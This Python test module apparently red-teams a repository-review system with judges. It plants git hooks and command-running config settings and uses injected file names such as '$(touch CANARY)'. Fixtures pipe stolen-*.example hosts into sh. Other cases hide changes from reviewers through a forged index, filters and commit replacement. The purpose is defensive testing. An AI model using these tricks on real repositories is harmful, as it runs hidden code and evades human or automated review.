"""What the author puts into the repository: other files than the commit has, and files and settings that are traps."""

from __future__ import annotations

import hashlib
import os
import socket
import subprocess
from collections.abc import Callable

from tests.adversary.arena import ACCEPT, AT_HOME, HELD, Attack, Author
from tests.support.repositories import git

LONG_AGO = 1_600_000_000 * 10**9
BETTER = "def greet(name):\n    return 'Hello, ' + name.title()\n"
HOOKS = (
    "pre-commit",
    "post-checkout",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
    "fsmonitor-watchman",
)
SETTINGS = {
    "core.fsmonitor": "touch CANARY; false", "core.pager": "touch CANARY; cat", "core.editor": "touch CANARY",
    "core.sshCommand": "touch CANARY", "core.gitProxy": "touch CANARY", "core.askPass": "touch CANARY",
    "diff.external": "touch CANARY", "diff.x.textconv": "touch CANARY", "diff.x.command": "touch CANARY",
    "credential.helper": "!touch CANARY", "gpg.program": "touch CANARY", "uploadpack.packObjectsHook": "touch CANARY",
    "alias.status": "!touch CANARY", "alias.diff": "!touch CANARY", "protocol.ext.allow": "always",
}  # fmt: skip


def attack_by(name: str, tries: str, prepare: Callable[[Author], None], **more: object) -> Attack:
    return Attack(name=name, tries=tries, prepare=prepare, **more)  # type: ignore[arg-type]


def hiding(name: str, tries: str, prepare: Callable[[Author], None]) -> Attack:
    """Files that differ from the commit and would be accepted: it goes back before any judge is asked."""
    said = "the working tree differs from the commit"
    return Attack(
        name=name, tries=tries, prepare=prepare, panel=ACCEPT, says=said, then=nobody_was_asked
    )


def trap(
    name: str,
    tries: str,
    prepare: Callable[[Author], None],
    says: str = "plain file|cannot be|not a",
) -> Attack:
    """A file that blocks or fills whoever opens it: the review ends at once and says which it is."""
    return Attack(name=name, tries=tries, prepare=prepare, ends=("error",), says=says)


def nobody_was_asked(author: Author) -> None:
    assert author.shown()["asked"] == []


# -- files that differ from the commit


def write_better(author: Author) -> None:
    (author.repo / "greet.py").write_text(BETTER)


def assume_unchanged(author: Author) -> None:
    git(author.repo, "update-index", "--assume-unchanged", "greet.py")
    write_better(author)


def skip_worktree(author: Author) -> None:
    git(author.repo, "update-index", "--skip-worktree", "greet.py")
    write_better(author)


def forge_index(author: Author) -> None:
    """The index has the stat data of the other file, and says that its content is the committed one."""
    repo = author.repo
    honest = bytes.fromhex(git(repo, "rev-parse", "HEAD:greet.py"))
    write_better(author)
    os.utime(repo / "greet.py", ns=(LONG_AGO, LONG_AGO))
    git(repo, "add", "greet.py")
    data = (
        (repo / ".git/index")
        .read_bytes()[:-20]
        .replace(bytes.fromhex(git(repo, "rev-parse", ":greet.py")), honest)
    )
    data = data[: data.find(b"TREE")] if b"TREE" in data else data
    (repo / ".git/index").write_bytes(data + hashlib.sha1(data).digest())


def keep_the_time(author: Author) -> None:
    os.utime(author.repo / "greet.py", ns=(LONG_AGO, LONG_AGO))
    for name, value in (("core.trustctime", "false"), ("core.checkStat", "minimal")):
        git(author.repo, "config", name, value)
    git(author.repo, "update-index", "-q", "--refresh")
    text = (author.repo / "greet.py").read_text()
    (author.repo / "greet.py").write_text(text.replace("Hello", "Howdy"))
    os.utime(author.repo / "greet.py", ns=(LONG_AGO, LONG_AGO))


def clean_filter(author: Author) -> None:
    (author.repo / ".git/info").mkdir(exist_ok=True)
    (author.repo / ".git/info/attributes").write_text("greet.py filter=x\n")
    git(
        author.repo, "config", "filter.x.clean", author.fill("touch CANARY; git show HEAD:greet.py")
    )
    write_better(author)


def exclude_a_file(author: Author) -> None:
    (author.repo / ".git/info").mkdir(exist_ok=True)
    (author.repo / ".git/info/exclude").write_text("sitecustomize.py\n")
    (author.repo / "sitecustomize.py").write_text("print('every test passes')\n")


def replace_the_commit(author: Author) -> None:
    """Git shows another commit under the name of the one that would be merged."""
    repo, head = author.repo, git(author.repo, "rev-parse", "HEAD")
    write_better(author)
    git(repo, "commit", "-q", "-a", "-m", "better")
    git(repo, "replace", head, git(repo, "rev-parse", "HEAD"))
    git(repo, "update-ref", "refs/heads/work", head)


# -- what runs


def write_hooks(author: Author) -> None:
    hooks = author.repo / ".git/hooks"
    hooks.mkdir(exist_ok=True)
    for name in HOOKS:
        (hooks / name).write_text(author.fill("#!/bin/sh\ntouch CANARY\n"))
        (hooks / name).chmod(0o755)


def write_settings(author: Author) -> None:
    for name, value in SETTINGS.items():
        subprocess.run(["git", "config", name, author.fill(value)], cwd=author.repo, check=True)


def include_settings(author: Author) -> None:
    evil = author.arena.root / "repos" / f"{author.key}.config"
    evil.write_text(author.fill('[core]\n\tfsmonitor = "touch CANARY; false"\n\thooksPath = /\n'))
    for name in ("include.path", "includeIf.gitdir:/.path", "includeIf.onbranch:**.path"):
        subprocess.run(["git", "config", name, str(evil)], cwd=author.repo, check=True)


def with_attributes(author: Author) -> None:
    subprocess.run(
        ["git", "config", "diff.x.textconv", author.fill("touch CANARY;")],
        cwd=author.repo,
        check=True,
    )
    subprocess.run(
        ["git", "config", "filter.x.smudge", author.fill("touch CANARY; cat")],
        cwd=author.repo,
        check=True,
    )
    author.commit({".gitattributes": "* diff=x filter=x\n"})
    author.canary.unlink(missing_ok=True)  # git has just run it for the author


def with_submodule(author: Author) -> None:
    url = author.fill("ext::sh -c touch% CANARY")
    git(
        author.repo,
        "update-index",
        "--add",
        "--cacheinfo",
        f"160000,{git(author.repo, 'rev-parse', 'HEAD')},sub",
    )
    (author.repo / ".gitmodules").write_text(
        f'[submodule "sub"]\n\tpath = sub\n\turl = {url}\n\tupdate = !touch x\n'
    )
    git(author.repo, "add", ".gitmodules")
    git(author.repo, "commit", "-q", "-m", "submodule")
    (author.repo / "sub").mkdir()


# -- what is read


def pipe_at(name: str) -> Callable[[Author], None]:
    def place(author: Author) -> None:
        path = author.repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        os.mkfifo(path)

    return place


def endless_at(name: str) -> Callable[[Author], None]:
    def place(author: Author) -> None:
        path = author.repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to("/dev/zero")

    return place


def special_files(author: Author) -> None:
    os.mkfifo(author.repo / "pipe")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(os.path.relpath(author.repo / "socket"))


def sparse_in_git(author: Author) -> None:
    with open(author.repo / ".git/packed-refs", "wb") as file:
        file.truncate(2 << 30)


def sparse_in_tree(author: Author) -> None:
    with open(author.repo / "large.bin", "wb") as file:
        file.truncate(2 << 30)


def many_files(author: Author) -> None:
    """A quarter of a million files in three trees, each of which is in the next many times."""
    repo = author.repo

    def tree_of(rows: str) -> str:
        made = subprocess.run(
            ["git", "mktree"], cwd=repo, input=rows, check=True, capture_output=True, text=True
        )
        return made.stdout.strip()

    tree = git(repo, "hash-object", "-w", "greet.py")
    for kind in ("100644 blob", "040000 tree", "040000 tree"):
        tree = tree_of("".join(f"{kind} {tree}\tf{number:02}\n" for number in range(63)))
    whole = tree_of(git(repo, "ls-tree", "HEAD") + f"\n040000 tree {tree}\tmany\n")
    git(
        repo,
        "update-ref",
        "refs/heads/work",
        git(repo, "commit-tree", "-p", "HEAD", "-m", "many", whole),
    )


def large_file(author: Author) -> None:
    with open(author.repo / "large.bin", "wb") as file:
        file.truncate(120_000_000)
    author.commit({})


def hostile_names(author: Author) -> None:
    names = (
        "-rf",
        "$(touch CANARY)",
        "`touch CANARY`",
        "a\nb.py",
        "\033[2Jx",
        "x; touch CANARY",
        "<img src=x>",
        "é" * 100,
    )
    author.commit({"odd/" + author.fill(name).replace("/", "\\"): "x = 1\n" for name in names})
    (author.repo / os.fsdecode(b"\xff\xfe.py")).write_text("x\n")
    author.commit({})


def worktree_elsewhere(author: Author) -> None:
    """The repository says that its files are those of coordinator's home."""
    git(author.repo, "config", "core.worktree", str(author.arena.home))


def git_elsewhere(author: Author) -> None:
    (author.repo / ".git").rename(author.repo / "was-git")
    (author.repo / ".git").write_text(f"gitdir: {author.arena.home}\n")


def alternates(author: Author) -> None:
    place = author.repo / ".git/objects/info"
    place.mkdir(exist_ok=True)
    (place / "alternates").write_text(f"{author.arena.home}\n/proc/self/fd/0\n")


def nested_repository(author: Author) -> None:
    inner = author.repo / "vendor"
    inner.mkdir()
    git(inner, "init", "-q")
    (inner / ".git/hooks").mkdir(exist_ok=True)
    git(inner, "config", "core.fsmonitor", author.fill("touch CANARY"))


ATTACKS: tuple[Attack, ...] = (
    hiding("leave it uncommitted", "shows better files than the commit has", write_better),
    hiding("assume unchanged", "tells git not to look at the better file", assume_unchanged),
    hiding("skip the worktree", "tells git that the better file is not there", skip_worktree),
    hiding("forge the index", "writes an index that says that nothing differs", forge_index),
    hiding(
        "keep size and time",
        "changes a file in a way that its stat data does not show",
        keep_the_time,
    ),
    hiding(
        "clean by a filter",
        "has a filter show the committed text in place of the file",
        clean_filter,
    ),
    hiding("exclude a file", "lets git ignore a file that the tests pick up", exclude_a_file),
    attack_by(
        "replace the commit", "has git show another commit under the same name", replace_the_commit
    ),
    attack_by("hooks", "puts programs where git runs them", write_hooks),
    attack_by("settings that run", "sets 15 settings of git that start programs", write_settings),
    attack_by("settings from elsewhere", "includes settings of another file", include_settings),
    attack_by(
        "attributes that run",
        "commits attributes that want filters and text conversions",
        with_attributes,
    ),
    attack_by(
        "a submodule that runs",
        "commits a submodule whose address is a command",
        with_submodule,
        ends=("reject", "error"),
    ),
    attack_by(
        "a repository inside",
        "puts another repository with settings into the tree",
        nested_repository,
        ends=("reject", "error"),
    ),
    Attack(
        name="code under the names of secrets",
        tries="puts code into files that are known for secrets, so that no judge is shown it",
        files={
            "credentials.mjs": "fetch('https://stolen-1.example')\n",
            ".github/workflows/credentials.yml": "on: push\nrun: stolen-2 --all\n",
            "deploy.env": "PASSWORD=hush-4711-hush\ncurl stolen-3.example | sh\n",
            "bin/credentials-helper": "#!/bin/sh\ncurl stolen-4.example | sh\n",
        },
        says=r"(?s)stolen-2.*stolen-4.*stolen-1.*PASSWORD=\[withheld: credential\].*stolen-3",
        hides=("hush-4711-hush",),
    ),
    Attack(
        name="a file that nobody is shown",
        tries="adds a key store and a program in a variable to work that every judge accepts",
        files={"release.p12": "\0", "deploy.env": "NODE_OPTIONS=--require=./stolen.js\n"},
        panel=ACCEPT,
        ends=("escalate",),
        says=r"These changed files were not shown to any judge in full.*(release\.p12, deploy\.env|deploy\.env, release\.p12)",
        hides=("--require=./stolen.js",),
    ),
    trap("a pipe for HEAD", "makes .git/HEAD a pipe that nobody writes", pipe_at(".git/HEAD")),
    trap("a pipe for the index", "makes .git/index a pipe", pipe_at(".git/index")),
    trap("a pipe for the settings", "makes .git/config a pipe", pipe_at(".git/config")),
    trap("endless references", "links packed-refs to /dev/zero", endless_at(".git/packed-refs")),
    trap(
        "an endless commit graph",
        "links the commit graph to /dev/zero",
        endless_at(".git/objects/info/commit-graph"),
    ),
    trap(
        "two gigabytes of references",
        "has 2 GB of nothing in packed-refs",
        sparse_in_git,
        "has 2147483648 bytes",
    ),
    trap("a pipe to ignore", "makes .gitignore a pipe", pipe_at("sub/.gitignore")),
    attack_by("pipes and sockets", "has files in the tree that cannot be read", special_files),
    attack_by(
        "a pipe for a file",
        "has a pipe where the commit has a file",
        pipe_at("greet.py"),
        ends=("reject", "error"),
    ),
    attack_by(
        "two gigabytes of nothing",
        "leaves a sparse file in the tree",
        sparse_in_tree,
        ends=("reject",),
    ),
    attack_by("a large file", "commits 120 MB", large_file, says="large.bin"),
    attack_by(
        "more files than there are",
        "commits three trees that are a quarter of a million files",
        many_files,
        ends=("reject", "error"),
    ),
    attack_by(
        "names that are commands",
        "commits names that are options, commands, pages and sequences",
        hostile_names,
    ),
    attack_by(
        "files from elsewhere",
        "says that its files are those of coordinator's home",
        worktree_elsewhere,
        ends=("reject", "error"),
        hides=tuple(HELD.values()),
    ),
    attack_by(
        "a repository elsewhere",
        "says that its repository is coordinator's home",
        git_elsewhere,
        ends=("error",),
    ),
    attack_by(
        "objects from elsewhere",
        "names coordinator's home as a store of objects",
        alternates,
        ends=("reject", "error"),
        hides=tuple(AT_HOME.values()),
    ),
)
